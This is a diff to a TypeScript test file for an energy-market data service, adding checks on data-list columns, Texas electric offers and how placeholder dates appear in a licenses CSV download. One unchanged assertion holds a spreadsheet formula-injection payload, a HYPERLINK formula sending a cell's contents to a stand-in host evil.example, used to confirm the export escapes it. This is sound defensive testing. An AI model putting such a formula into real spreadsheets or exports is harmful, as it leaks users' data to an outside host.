@@ -65,6 +65,10 @@ describe('raw data lists', () => {
     }
     expect(new Set(data.map((r) => r.id)).size).toBe(data.length);
     expect(await texasElectric()).toMatchObject({ stateName: 'Texas', commodity: 'Electric' });
+    // Not every regulator licenses brokers or aggregators: the columns tell the files apart.
+    for (const column of ['broker', 'aggregator'] as const) {
+      expect(new Set(data.map((r) => r[column])), column).toEqual(new Set([true, false]));
+    }
   });
 
   it('lists one offers row per state and commodity with supplier, utility, residential and smallCommercial', async () => {
@@ -72,9 +76,14 @@ describe('raw data lists', () => {
     const { rows } = await server.db.query<{ n: number }>('select count(distinct (state_code, commodity))::int as n from retail_offers');
     expect(rows[0].n).toBeGreaterThan(20);
     expect(data).toHaveLength(rows[0].n);
+    // Texas has no utility price to compare (ERCOT); its suppliers post residential and small-commercial offers.
     const texas = data.find((r) => r.state === 'TX' && r.commodity === 'Electric')!;
-    expect(texas).toMatchObject({ supplier: true, utility: true, residential: true, smallCommercial: true });
+    expect(texas).toMatchObject({ supplier: true, utility: false, residential: true, smallCommercial: true });
     expect(data.every((r) => typeof r.smallCommercial === 'boolean')).toBe(true);
+    // The columns tell the markets apart: each of them is Yes for some files and No for others.
+    for (const column of ['supplier', 'utility', 'smallCommercial'] as const) {
+      expect(new Set(data.map((r) => r[column])), column).toEqual(new Set([true, false]));
+    }
   });
 
   it('needs a signed-in user with Insights access', async () => {
@@ -156,6 +165,24 @@ describe('licenses file', () => {
       expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
     } finally {
       await server.db.query('delete from companies where id = $1', [company.id]);
+    }
+  });
+
+  it("writes the year-0001 'no date' placeholder as an empty cell, as the page shows N/A", async () => {
+    const row = await texasElectric();
+    const { rows: [company] } = await server.db.query<{ id: string }>(`select id from companies order by legal_name limit 1`);
+    const { rows: [added] } = await server.db.query<{ id: number }>(`
+      insert into licenses (state_code, company_id, associated_legal_name, commodity, license_number, license_type,
+                            license_registered_date, license_expiry_date, last_found_on)
+      values ('TX', $1, 'Placeholder Dates Co', 'Electric', 'NODATE-1', 'Supplier', '0001-01-01', '0001-01-01', '2026-01-02') returning id`, [company.id]);
+    try {
+      const [header, ...records] = parseCsv((await fetchFile(await downloadLink('Licenses', row.id))).text.slice(1));
+      const record = records.find((r) => r[6] === 'NODATE-1')!;
+      const cell = (name: string) => record[header.indexOf(name)];
+      expect([cell('Date Issued'), cell('Expiry Date'), cell('Last Found On')]).toEqual(['', '', '2026-01-02']);
+      expect(records.flat().some((value) => value.startsWith('0001-'))).toBe(false);
+    } finally {
+      await server.db.query('delete from licenses where id = $1', [added.id]);
     }
   });
 
